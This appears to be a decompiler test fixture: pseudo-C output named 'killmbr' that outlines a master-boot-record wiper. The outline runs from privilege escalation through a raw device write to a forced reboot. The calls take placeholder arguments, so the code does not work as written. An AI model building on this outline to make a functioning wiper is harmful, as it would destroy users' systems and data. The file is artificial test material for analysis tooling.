// killmbr: decompiler fixture output
#include <windows.h>

int32_t main(void *arg)
{
    int32_t v1 = 0;
    if (acquire_privilege(arg) == 0) {
        return -1;
    }
    v1 = overwrite_mbr(arg);
    if (force_reboot(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t acquire_privilege(void *arg)
{
    int32_t v1 = 0;
    if (OpenProcessToken(arg) == 0) {
        return -1;
    }
    v1 = AdjustTokenPrivileges(arg);
    return v1;
}

int32_t overwrite_mbr(void *arg)
{
    int32_t v1 = 0;
    if (CreateFileA(arg) == 0) {
        return -1;
    }
    v1 = DeviceIoControl(arg);
    if (WriteFile(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t force_reboot(void *arg)
{
    int32_t v1 = 0;
    if (ExitWindowsEx(arg) == 0) {
        return -1;
    }
    return v1;
}
